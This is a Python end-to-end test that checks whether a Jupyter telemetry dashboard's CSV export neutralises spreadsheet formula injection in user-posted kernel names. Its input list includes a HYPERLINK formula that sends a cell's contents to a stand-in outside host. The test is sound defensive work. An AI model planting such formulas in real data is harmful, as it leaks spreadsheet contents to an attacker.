"""The dashboard's CSV downloads in headless Chromium: a value a user posted (a kernel name)
never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from jupyter_telemetry_ext.dashboard.views import NOTEBOOK
from tests.conftest import SHIPPED_SCHEMAS
from tests.servers import TOKEN, Server

pytestmark = pytest.mark.e2e  # starts a Jupyter server and Chromium

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
CONFIG = """\
import logging
c.TelemetryExtension.schema_paths = [{schemas!r}]
c.TelemetryExtension.reply_after_write = True
c.EventLog.handlers = [logging.FileHandler({log!r})]
c.EventLog.allowed_schemas = {{{notebook!r}: {{"allowed_categories": ["unrestricted"]}}}}
"""
# What a spreadsheet would run, or read as a number, at the start of a cell; and a plain name.
KERNELS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)",
           "\tx", "\rx", "python3"]  # fmt: skip


@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian's chromium at /usr/bin/chromium")
def test_a_posted_value_is_no_formula_in_the_csv(tmp_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    config = tmp_path / "jupyter_server_config.py"
    config.write_text(CONFIG.format(schemas=str(SHIPPED_SCHEMAS), log=str(tmp_path / "e.jsonl"),
                                    notebook=NOTEBOOK), "utf-8")  # fmt: skip
    with Server(tmp_path, f"--config={config}") as server:
        events = [{"schema_id": NOTEBOOK, "version": 2,
                   "data": {"action": "opened", "notebook_session": "s", "kernel_name": k}}
                  for k in KERNELS]  # fmt: skip
        status, reply = server.request("POST", "/api/telemetry/events", {"events": events})
        assert (status, reply["recorded"]) == (200, len(KERNELS)), reply
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
            try:
                tab = browser.new_page()
                errors: list[str] = []
                tab.on("console", lambda m: errors.append(m.text))
                tab.on("pageerror", lambda e: errors.append(str(e)))
                tab.on("response", lambda r: r.status < 400 or errors.append(f"{r.status} {r.url}"))
                tab.goto(f"http://127.0.0.1:{server.port}/telemetry/dashboard?token={TOKEN}")
                try:
                    tab.locator("body[data-drawn='true']").wait_for(timeout=30_000)
                except Exception:  # playwright's TimeoutError: say what the page said
                    pytest.fail(f"not drawn: {errors} {tab.inner_text('body')[:2000]}")
                with tab.expect_download() as download:
                    tab.locator("section.view[data-view='kernels'] a.csv").click()
                with Path(download.value.path()).open(encoding="utf-8", newline="") as f:
                    text = f.read()
            finally:
                browser.close()
    rows: list[dict[str, Any]] = list(csv.DictReader(io.StringIO(text, newline="")))
    kernels = sorted(row["kernel"] for row in rows)
    # Each value that a spreadsheet would take for a formula starts with a quote instead.
    assert kernels == sorted(k if k == "python3" else "'" + k for k in KERNELS), json.dumps(text)
    assert {row["events"] for row in rows} == {"1"}
